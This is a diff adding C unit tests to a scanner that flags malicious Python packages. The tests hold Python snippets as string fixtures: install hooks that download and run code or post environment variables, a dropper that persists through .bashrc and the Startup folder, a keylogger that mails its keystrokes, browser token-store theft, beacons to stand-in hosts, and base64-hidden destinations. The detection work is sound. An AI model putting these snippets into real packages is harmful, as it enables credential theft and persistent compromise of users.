@@ -165,8 +165,294 @@ static void test_rules_behave__download_exec(void **state)
 		-1);
 }
 
+/* A downloaded .py started by a new interpreter is a second stage. */
+static void test_rules_behave__download_script(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import subprocess, sys\n"
+			 "import requests as fetch\n"
+			 "from setuptools.command.install import install\n"
+			 "class Up(install):\n"
+			 "    def run(self):\n"
+			 "        r = fetch.get('https://cdn.example.invalid/a/u.py')\n"
+			 "        with open('u.py', 'wb') as f:\n"
+			 "            f.write(r.content)\n"
+			 "        subprocess.check_call([sys.executable, 'u.py'])\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_CRITICAL);
+	/* near miss: a generated .py is run, nothing was downloaded */
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import subprocess, sys\n"
+			 "def gen():\n"
+			 "    with open('gen_tables.py', 'w') as f:\n"
+			 "        f.write(TEMPLATE)\n"
+			 "    subprocess.check_call([sys.executable, 'gen_tables.py'])\n"
+			 "gen()\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		-1);
+}
+
+/* The full dropper chain is not lowered in code nothing calls at import;
+ * a download planted in site-packages is persistence. */
+static void test_rules_behave__dropper_chain(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/pr.py",
+			 "import os, stat, urllib.request\n"
+			 "def rn():\n"
+			 "    r = urllib.request.urlopen('http://203.0.113.7/out')\n"
+			 "    os.chdir(os.path.expanduser('~'))\n"
+			 "    with open('.drv', 'wb') as d:\n"
+			 "        d.write(r.read())\n"
+			 "    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n"
+			 "    with open('.bashrc', 'a') as b:\n"
+			 "        b.write('~/.drv &')\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_CRITICAL);
+	/* an .exe from a file-drop host, written and started: runtime
+	 * code, still high */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import os, requests\n"
+			 "class dl:\n"
+			 "    @staticmethod\n"
+			 "    def go():\n"
+			 "        p = os.environ['TEMP'] + '\\\\u.exe'\n"
+			 "        open(p, 'wb').write(requests.get("
+			 "'https://dl.dropbox.com/s/x/u.exe?dl=0').content)\n"
+			 "        os.system(p)\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_HIGH);
+	/* planted in site-packages by a function import starts */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import os, threading, requests\n"
+			 "path = os.path.expanduser('~/.local/lib/python3/"
+			 "site-packages/helper')\n"
+			 "def init():\n"
+			 "    code = requests.get('https://x.example.invalid/r').text\n"
+			 "    os.makedirs(path, exist_ok=True)\n"
+			 "    with open(path + '/__init__.py', 'w') as f:\n"
+			 "        f.write(code)\n"
+			 "threading.Thread(target=init).start()\n",
+			 LG_RULE_PERSIST),
+		LG_SEV_HIGH);
+	/* near misses: a download cached under the user's cache dir; a
+	 * function that names site-packages but downloads nothing */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/cache.py",
+			 "import os, requests\n"
+			 "def fetch(u):\n"
+			 "    p = os.path.expanduser('~/.cache/pkg/model.bin')\n"
+			 "    with open(p, 'wb') as f:\n"
+			 "        f.write(requests.get(u).content)\n"
+			 "fetch('https://x.example.invalid/m')\n",
+			 LG_RULE_PERSIST),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/where.py",
+			 "import site\n"
+			 "def sp():\n"
+			 "    return [p for p in site.getsitepackages() "
+			 "if p.endswith('site-packages')]\n"
+			 "def save(p, data):\n"
+			 "    open(p, 'w').write(data)\n",
+			 LG_RULE_PERSIST),
+		-1);
+}
+
 /* ---- proc.* ------------------------------------------------------------------
  */
+
+/* Taint kept on self: __init__ collects, run() sends (C1 across methods). */
+static void test_rules_behave__self_attribute_taint(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import json, os, urllib.request\n"
+			 "from setuptools.command.install import install\n"
+			 "class Hook(install):\n"
+			 "    def __init__(self, dist):\n"
+			 "        super().__init__(dist)\n"
+			 "        self.e = json.dumps(os.environ.copy())\n"
+			 "    def run(self):\n"
+			 "        urllib.request.urlopen(URL, data=self.e)\n"
+			 "        install.run(self)\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_CRITICAL);
+	/* near misses: another class's attribute, a method call */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/a.py",
+			 "import os, requests\n"
+			 "class A:\n"
+			 "    def __init__(self):\n"
+			 "        self.env = dict(os.environ)\n"
+			 "class B:\n"
+			 "    def send(self):\n"
+			 "        requests.post(URL, data=self.env)\n"
+			 "    def go(self):\n"
+			 "        requests.post(URL, data=self.env())\n",
+			 LG_RULE_NET_EXFIL),
+		-1);
+}
+
+/* A dependency-confusion beacon in a method nobody calls at import stays
+ * high; token stores read in one function and posted from another. */
+static void test_rules_behave__beacon_and_stores(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/calc.py",
+			 "import os, socket, requests\n"
+			 "class calc:\n"
+			 "    def add(x, y):\n"
+			 "        p = {'h': socket.gethostname(), 'cwd': os.getcwd()}\n"
+			 "        requests.get('https://x.m.pipedream.net/', params=p)\n"
+			 "        return x + y\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_HIGH);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/calc.py",
+			 "import os, socket, requests\n"
+			 "class calc:\n"
+			 "    def add(x, y):\n"
+			 "        p = {'h': socket.gethostname()}\n"
+			 "        requests.get('https://telemetry.example.invalid/', params=p)\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_MEDIUM);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import os\n"
+			 "from urllib.request import Request, urlopen\n"
+			 "def find(path):\n"
+			 "    return os.listdir(path + '\\\\Local Storage\\\\leveldb')\n"
+			 "def main():\n"
+			 "    urlopen(Request(URL, data=str(find(P)).encode()))\n",
+			 LG_RULE_BROWSER_DB),
+		LG_SEV_HIGH);
+	/* near miss: the store is named, nothing in the file sends */
+	assert_true(scan_sev("pkg-1.0/pkg/prof.py",
+			     "import os\n"
+			     "def find(path):\n"
+			     "    return os.listdir(path + '/Local Storage/leveldb')\n",
+			     LG_RULE_BROWSER_DB) < (int)LG_SEV_MEDIUM);
+}
+
+/* ---- cred.runtime-stealer ------------------------------------------------ */
+
+static void test_rules_behave__runtime_stealer(void **state)
+{
+	(void)state;
+	/* a keylogger that mails what it caught: high even at runtime */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/sec.py",
+			 "import smtplib\n"
+			 "from pynput import keyboard\n"
+			 "keys = []\n"
+			 "def on_press(k):\n    keys.append(k)\n"
+			 "def collect():\n"
+			 "    with keyboard.Listener(on_press=on_press) as l:\n"
+			 "        l.join()\n"
+			 "def send():\n"
+			 "    s = smtplib.SMTP('mail.example.invalid', 587)\n"
+			 "    s.sendmail('a', 'b', ''.join(keys))\n",
+			 LG_RULE_RUNTIME_STEALER),
+		LG_SEV_HIGH);
+	/* a screenshot sent from code nothing calls at import: lowered */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/shot.py",
+			 "import requests\n"
+			 "from PIL import ImageGrab\n"
+			 "def shot():\n"
+			 "    ImageGrab.grab().save('s.png')\n"
+			 "    requests.post(URL, files={'f': open('s.png', 'rb')})\n",
+			 LG_RULE_RUNTIME_STEALER),
+		LG_SEV_MEDIUM);
+	/* near misses: a hotkey tool without network; a screenshot tool */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/hot.py",
+			 "from pynput import keyboard\n"
+			 "def watch(cb):\n"
+			 "    with keyboard.Listener(on_press=cb) as l:\n"
+			 "        l.join()\n",
+			 LG_RULE_RUNTIME_STEALER),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/snap.py",
+			 "import pyautogui\n"
+			 "def snap(p):\n    pyautogui.screenshot(p)\n",
+			 LG_RULE_RUNTIME_STEALER),
+		-1);
+}
+
+/* ---- proc.import-process ------------------------------------------------- */
+
+static void test_rules_behave__import_process(void **state)
+{
+	(void)state;
+	/* a second interpreter importing another module, on import */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import subprocess\n"
+			 "try:\n"
+			 "    p = subprocess.Popen(['python3', '-c', 'import helper'],"
+			 " close_fds=True)\n"
+			 "except Exception:\n    pass\n",
+			 LG_RULE_IMPORT_PROCESS),
+		LG_SEV_HIGH);
+	/* a script written to /tmp and started detached through a shell */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/color.py",
+			 "import subprocess\n"
+			 "def check():\n"
+			 "    subprocess.call('python3 /tmp/file.py &', shell=True)\n"
+			 "check()\n",
+			 LG_RULE_IMPORT_PROCESS),
+		LG_SEV_HIGH);
+	/* a sibling script, from a function module code calls */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/tools.py",
+			 "import os, sys, subprocess\n"
+			 "def start():\n"
+			 "    subprocess.Popen([sys.executable, 'agent.py'])\n"
+			 "start()\n",
+			 LG_RULE_IMPORT_PROCESS),
+		LG_SEV_HIGH);
+}
+
+static void test_rules_behave__import_process_near_misses(void **state)
+{
+	(void)state;
+	/* platform probes at import (kivy's xclip, torch's hipconfig) */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/clip.py",
+			 "import subprocess\n"
+			 "p = subprocess.Popen(['xclip', '-version'],"
+			 " stdout=subprocess.PIPE)\n",
+			 LG_RULE_IMPORT_PROCESS),
+		-1);
+	/* a function nothing calls at import, the __main__ block, a test */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/cli.py",
+			 "import subprocess, sys\n"
+			 "def run():\n"
+			 "    subprocess.call([sys.executable, '-m', 'pkg.worker'])\n"
+			 "if __name__ == '__main__':\n"
+			 "    subprocess.call(['python3', '-c', 'print(1)'])\n",
+			 LG_RULE_IMPORT_PROCESS),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg-1.0/tests/test_cli.py",
+			 "import subprocess, sys\n"
+			 "subprocess.check_call([sys.executable, '-c', 'import pkg'])\n",
+			 LG_RULE_IMPORT_PROCESS),
+		-1);
+}
 
 static void test_rules_behave__lolbin(void **state)
 {
@@ -274,6 +560,25 @@ static void test_rules_behave__persist_and_miner(void **state)
 			 "keep('x')\n",
 			 LG_RULE_PERSIST),
 		LG_SEV_HIGH);
+	/* a file moved into the Startup folder from an install hook */
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import os\n"
+			 "def plant(src):\n"
+			 "    dst = os.path.join(os.environ['APPDATA'], r'Microsoft"
+			 "\\Windows\\Start Menu\\Programs\\Startup\\u.py')\n"
+			 "    os.rename(src, dst)\n"
+			 "plant('u.py')\n",
+			 LG_RULE_PERSIST),
+		LG_SEV_CRITICAL);
+	/* near miss: a rename that names no autostart location */
+	assert_int_equal(scan_sev("demo-1.0/setup.py",
+				  "import os\n"
+				  "def mv():\n"
+				  "    os.rename('build/lib.tmp', 'build/lib')\n"
+				  "mv()\n",
+				  LG_RULE_PERSIST),
+			 -1);
 	/* near miss: reading a shell rc file for completion setup */
 	assert_int_equal(scan_sev("pkg/compl.py",
 				  "import os\n"
@@ -311,6 +616,31 @@ static void test_rules_behave__destinations(void **state)
 			 "import requests\n"
 			 "HOOK = 'https://pastebin.com/raw/x'\n"
 			 "def ping():\n    return requests.get('http://127.0.0.1:8000/')\n",
+			 LG_RULE_SUSPICIOUS_DEST),
+		-1);
+}
+
+/* E2: a destination hidden in base64. */
+static void test_rules_behave__encoded_destination(void **state)
+{
+	(void)state;
+	/* base64 of 'x.example.invalid' */
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import base64, socket\n"
+			 "def beacon():\n"
+			 "    socket.gethostbyname(base64.b64decode("
+			 "'eC5leGFtcGxlLmludmFsaWQ='))\n"
+			 "beacon()\n",
+			 LG_RULE_SUSPICIOUS_DEST),
+		LG_SEV_HIGH);
+	/* near miss: a decoded payload stays local; a plain host */
+	assert_int_equal(
+		scan_sev("pkg/__init__.py",
+			 "import base64, requests\n"
+			 "ICON = base64.b64decode('aGVsbG8=')\n"
+			 "def ping():\n"
+			 "    return requests.get('https://api.example.invalid/v1')\n",
 			 LG_RULE_SUSPICIOUS_DEST),
 		-1);
 }
@@ -505,6 +835,53 @@ static void test_rules_behave__encoded_code(void **state)
 }
 
 /* ---- contexts and the per-artifact scanner ------------------------------- */
+
+/* A local module that setup.py reaches by `import pkg.mod` (which binds
+ * only pkg) or runs with `-m pkg.mod` is install code; one nothing reaches
+ * is not. */
+static void test_rules_behave__install_chain(void **state)
+{
+	static const char *const paths[] = {
+		"demo-1.0/setup.py", "demo-1.0/build_cfg/__init__.py",
+		"demo-1.0/build_cfg/hook.py", "demo-1.0/demo/__init__.py",
+		"demo-1.0/demo/beacon.py", "demo-1.0/demo/other.py"};
+	static const char *const texts[] = {
+		"import subprocess, sys\n"
+		"from setuptools import setup\n"
+		"from build_cfg import kwargs\n"
+		"subprocess.run([sys.executable, '-m', 'demo.beacon'])\n"
+		"setup(**kwargs)\n",
+		"import build_cfg.hook\nkwargs = {'name': 'demo'}\n",
+		"import urllib.request\n"
+		"def go():\n    urllib.request.urlopen(URL, data=b'x')\n",
+		"",
+		"import socket, requests\n"
+		"def main():\n"
+		"    requests.post(U, json={'h': socket.gethostname()})\n"
+		"if __name__ == '__main__':\n    main()\n",
+		"import socket, requests\n"
+		"def main():\n"
+		"    requests.post(U, json={'h': socket.gethostname()})\n"};
+	struct lg_findings f = LG_FINDINGS_INIT;
+	size_t in_hook = 0, beacon = 0, other = 0;
+
+	(void)state;
+	scan_artifact(&f, paths, texts, LG_ARRAY_SIZE(paths));
+	for (size_t i = 0; i < f.n; i++) {
+		const struct lg_finding *x = &f.v[i];
+		bool install = strstr(x->message, "install context") != NULL;
+
+		in_hook += !strcmp(x->path, paths[2]) && install;
+		beacon += !strcmp(x->path, paths[4]) && install &&
+			  x->severity >= LG_SEV_HIGH;
+		other += !strcmp(x->path, paths[5]) &&
+			 x->severity >= LG_SEV_HIGH;
+	}
+	assert_true(in_hook >= 1);
+	assert_true(beacon >= 1);
+	assert_int_equal(other, 0);
+	lg_findings_dispose(&f);
+}
 
 static void test_rules_behave__contexts(void **state)
 {
@@ -781,6 +1158,14 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__exfil_near_misses),
 		cmocka_unit_test(test_rules_behave__remote_code),
 		cmocka_unit_test(test_rules_behave__download_exec),
+		cmocka_unit_test(test_rules_behave__self_attribute_taint),
+		cmocka_unit_test(test_rules_behave__runtime_stealer),
+		cmocka_unit_test(test_rules_behave__beacon_and_stores),
+		cmocka_unit_test(test_rules_behave__import_process),
+		cmocka_unit_test(test_rules_behave__import_process_near_misses),
+		cmocka_unit_test(test_rules_behave__download_script),
+		cmocka_unit_test(test_rules_behave__dropper_chain),
+		cmocka_unit_test(test_rules_behave__encoded_destination),
 		cmocka_unit_test(test_rules_behave__lolbin),
 		cmocka_unit_test(test_rules_behave__reverse_shell),
 		cmocka_unit_test(test_rules_behave__persist_and_miner),
@@ -791,6 +1176,7 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__obfuscated_exec),
 		cmocka_unit_test(test_rules_behave__encoded_code),
 		cmocka_unit_test(test_rules_behave__contexts),
+		cmocka_unit_test(test_rules_behave__install_chain),
 		cmocka_unit_test(test_rules_behave__allowed_build_shapes),
 		cmocka_unit_test(test_rules_behave__more_shapes),
 		cmocka_unit_test(test_rules_behave__download_shell_start),
